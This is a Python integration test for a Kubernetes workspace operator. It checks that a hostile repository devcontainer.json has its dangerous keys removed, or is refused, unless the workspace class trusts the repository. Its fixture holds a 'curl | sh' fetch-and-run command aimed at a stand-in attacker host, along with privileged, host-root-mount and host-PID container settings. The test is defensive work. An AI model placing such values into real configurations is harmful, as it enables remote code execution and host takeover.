"""A repository's devcontainer.json is vetted on the VM and the operator says so.

The real operator on the real apiserver, real agents on simulated VMs. The hostile
config reaches the workspace as repository content does on a real VM that restores a
backup: written into /workspaces, backed up at stop, restored at the next start, where
the agent vets it before `devcontainer up` (simulated VMs run everything up to it).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from tests.conftest import Kubectl
from tests.support.stack import VmStack, condition, vm_stack, workspace
from tests.support.waiting import wait_for

pytestmark = pytest.mark.integration
CLASS = "vetting"
HOSTILE = {
    "image": "mcr.microsoft.com/devcontainers/base:ubuntu-24.04",
    "initializeCommand": "curl -s https://attacker.example/x | sh",
    "runArgs": ["--privileged", "-v", "/:/host", "--pid=host"],
    "privileged": True,
    "capAdd": ["SYS_ADMIN"],
    "mounts": ["source=/,target=/host,type=bind"],
    "postCreateCommand": "npm ci",
}
COMPOSE = {"dockerComposeFile": "compose.yml", "service": "app"}


@pytest.fixture(scope="module")
def stack(control_plane, kubectl: Kubectl,  # type: ignore[no-untyped-def]
          tmp_path_factory: pytest.TempPathFactory) -> Iterator[VmStack]:
    with vm_stack(control_plane, kubectl, tmp_path_factory.mktemp("vms"), CLASS, 27, 18087,
                  storage=True) as stack:
        yield stack


def _ws(kubectl: Kubectl, name: str, ns: str) -> dict[str, Any]:
    return kubectl.get_json("workspace", name, "-n", ns) or {}


def _until(kubectl: Kubectl, name: str, ns: str, what: str, test: Any,
           timeout: float = 90) -> dict[str, Any]:
    return wait_for(lambda: (w := _ws(kubectl, name, ns)) and test(w) and w, timeout, what)


def _ready(kubectl: Kubectl, name: str, ns: str) -> dict[str, Any]:
    return _until(kubectl, name, ns, f"{name} Ready",
                  lambda w: condition(w, "Ready").get("status") == "True")


def _restart_with(stack: VmStack, kubectl: Kubectl, name: str, ns: str,
                  config: dict[str, Any]) -> None:
    """Put `config` in the repository, stop (backup) and start again (restore)."""
    ws = _ws(kubectl, name, ns)
    repo = stack.vms.workspace_dir(int(ws["status"]["server"]["id"])) / "app"
    (repo / ".devcontainer").mkdir(parents=True, exist_ok=True)
    (repo / ".devcontainer" / "devcontainer.json").write_text(
        "// from the repository\n" + json.dumps(config), encoding="utf-8")
    kubectl("patch", "workspace", name, "-n", ns, "--type", "merge",
            "-p", '{"spec":{"running":false}}')
    stopped = _until(kubectl, name, ns, f"{name} Stopped",
                     lambda w: w.get("status", {}).get("phase") == "Stopped")
    assert condition(stopped, "BackupSucceeded")["status"] == "True"
    kubectl("patch", "workspace", name, "-n", ns, "--type", "merge",
            "-p", '{"spec":{"running":true}}')


def _trust(kubectl: Kubectl, trusted: bool) -> None:
    kubectl("patch", "workspaceclass", CLASS, "--type", "merge", "-p",
            json.dumps({"spec": {"devcontainer": {"trustRepository": trusted}}}))


def test_hostile_devcontainer_keys_are_removed_refused_or_trusted_by_class(
        stack: VmStack, kubectl: Kubectl, namespace: str) -> None:
    kubectl.apply(workspace("hostile", namespace, CLASS))
    ws = _ready(kubectl, "hostile", namespace)
    assert condition(ws, "DevcontainerRestricted")["reason"] == "NotFromRepository"

    # Untrusted: the host-side and privilege keys are removed, and the condition names them.
    _restart_with(stack, kubectl, "hostile", namespace, HOSTILE)
    ws = _until(kubectl, "hostile", namespace, "keys removed", lambda w: condition(
        w, "Ready").get("status") == "True" and condition(
        w, "DevcontainerRestricted").get("reason") == "KeysRemoved")
    restricted = condition(ws, "DevcontainerRestricted")
    assert restricted["status"] == "True"
    for key in ("initializeCommand", "runArgs[--privileged]", "runArgs[-v]",
                "runArgs[--pid]", "privileged", "capAdd", "mounts[0]"):
        assert key in restricted["message"]
    assert "postCreateCommand" not in restricted["message"]
    assert "/:/host" not in json.dumps(ws["status"])  # names, never the values

    # Compose cannot be vetted: with a trusting class it runs ...
    _trust(kubectl, True)
    _restart_with(stack, kubectl, "hostile", namespace, COMPOSE)
    ws = _until(kubectl, "hostile", namespace, "repository trusted", lambda w: condition(
        w, "Ready").get("status") == "True" and condition(
        w, "DevcontainerRestricted").get("reason") == "RepositoryTrusted")
    assert condition(ws, "DevcontainerRestricted")["status"] == "False"

    # ... and without one the workspace does not start, saying why.
    _trust(kubectl, False)
    _restart_with(stack, kubectl, "hostile", namespace, COMPOSE)
    ws = _until(kubectl, "hostile", namespace, "compose refused", lambda w: condition(
        w, "AgentReady").get("reason") == "DevcontainerRefused")
    agent = condition(ws, "AgentReady")
    assert agent["status"] == "False" and "trustRepository" in agent["message"]
    restricted = condition(ws, "DevcontainerRestricted")
    assert (restricted["status"], restricted["reason"]) == ("True", "DevcontainerRefused")
    assert condition(ws, "Ready")["status"] == "False"
